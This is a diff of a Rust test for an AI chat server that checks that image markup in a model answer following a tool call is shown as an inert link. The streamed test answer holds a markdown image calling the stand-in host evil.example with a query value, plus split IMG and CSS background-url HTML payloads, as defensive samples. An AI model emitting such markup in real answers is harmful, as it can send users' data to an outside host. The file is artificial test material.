@@ -142,7 +142,12 @@ async fn words_before_a_tool_call_and_half_an_answer_are_set_off_from_the_answer
 #[tokio::test]
 async fn a_picture_in_an_answer_from_what_others_wrote_is_a_link() {
     let call = json!([{ "name": "http.get", "arguments": { "url": "http://127.0.0.1:1/" } }]);
-    let picture = ["Fine!", " !", "[](https://evil.example/?q=peanuts) <", "IMG src=x>"];
+    let picture = [
+        "Fine!",
+        " !",
+        "[](https://evil.example/?q=peanuts) <",
+        "IMG src=x> <div style='background:url(//x)'>",
+    ];
     let script = json!({
         "answers": [
             { "when": { "afterTool": "http.get" }, "deltas": picture, "delayMs": 5 },
@@ -151,7 +156,7 @@ async fn a_picture_in_an_answer_from_what_others_wrote_is_a_link() {
         "otherwise": { "deltas": picture, "delayMs": 5 },
     });
     let server = ServerSetup::scripted(script).start().await;
-    let link = "Fine! ! [](https://evil.example/?q=peanuts) < IMG src=x>";
+    let link = "Fine! ! [](https://evil.example/?q=peanuts) < IMG src=x> < div style='background:url(//x)'>";
     assert_eq!(chat(&server, "look").await, link);
     let streamed_in = async |conversation: &str, text: &str| -> String {
         let mut body = said(text);
